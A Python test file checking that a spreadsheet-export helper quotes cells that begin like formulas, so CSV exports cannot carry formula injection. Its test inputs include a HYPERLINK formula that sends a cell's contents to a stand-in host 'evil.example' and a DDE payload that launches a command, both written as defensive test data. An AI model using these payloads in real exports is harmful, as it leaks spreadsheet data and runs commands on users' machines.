"""CSV exports never hand a spreadsheet a formula written by a user."""

from __future__ import annotations

import pandas as pd
import pytest

from core.spreadsheet import safe_cell, safe_frame


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"],
)
def test_text_that_starts_like_a_formula_is_kept_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["김민수", "present", "a=b", "", 3, -2.5, None])
def test_everything_else_is_unchanged(value):
    assert safe_cell(value) == value


def test_a_frame_keeps_numbers_and_quotes_formula_text_and_headers():
    df = pd.DataFrame({"name": ["=cmd()", "kim"], "count": [-1, 2], "=head": ["x", "y"]})
    out = safe_frame(df)
    assert out["name"].tolist() == ["'=cmd()", "kim"]
    assert out["count"].tolist() == [-1, 2]  # a negative number is a number, not a formula
    assert list(out.columns) == ["name", "count", "'=head"]
    assert df["name"].tolist() == ["=cmd()", "kim"]  # the caller's frame is not changed
